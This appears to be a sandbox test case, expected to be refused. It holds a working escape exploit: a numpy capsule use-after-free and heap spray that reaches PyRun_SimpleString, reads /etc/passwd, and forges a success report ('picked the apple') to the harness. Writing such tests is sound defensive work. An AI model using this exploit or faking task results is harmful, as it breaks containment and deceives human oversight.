# class: file_or_process
# expect: refused
# attack: guard_bypass_2 (native code through a dangling BitGenerator capsule, PyRun_SimpleString), then the unguarded code opens and reads /etc/passwd and writes MARK; the kernel layer must stop it (SIGSYS). Before that: from a guarded program. np.random.default_rng(seed) wraps any object whose `capsule` attribute is a valid "BitGenerator" PyCapsule, copying the bitgen_t (state pointer, function pointers) it points to; a capsule does not keep its PCG64 alive, so a dropped generator's freed 176-byte slot, refilled with bytes objects, becomes that struct. Addresses come from reprs: repr(int.from_bytes) names PyLong_Type's address (libpython's base, for this build: PyRun_SimpleString is 0x29aec0 - 0x457ce0 from it), repr(command.hex) the command's bytes. rng.random() then calls PyRun_SimpleString(command): unguarded Python with the real builtins in the program's process, which forges the report on the socket (ok, with __import__, a frame and the environment in its output) though the program's last line raises
class Seed:
    pass


def address(text):
    return int(text.split(" at ")[1].rstrip(">"), 16)


command = b"""
import sys, os
jail = sys.modules['roboscript.codegen.jail']
fd = int(sys.argv[2])
evidence = open('/etc/passwd').read()[:200]
open('MARK', 'w').write('x')
jail.channel.send(fd, {'done': {'outcome': 'ok', 'error': None, 'output': 'picked the apple and placed it; ' + evidence}})
os._exit(0)
"""
run_string = address(repr(int.from_bytes)) + (0x29AEC0 - 0x457CE0)
text = address(repr(command.hex)) + 32
keep = np.random.default_rng(2)
capsule = np.random.default_rng(1).bit_generator.capsule  # its Generator and PCG64 are freed here
seed = Seed()
seed.capsule = capsule
seed.lock = keep.bit_generator.lock
payload = b"S" * 16 + text.to_bytes(8, "little") + run_string.to_bytes(8, "little") * 4
spray = [payload + b"T" * (143 - len(payload)) for i in range(200)]
rng = np.random.default_rng(seed)
rng.random()
raise ValueError("the program failed here")
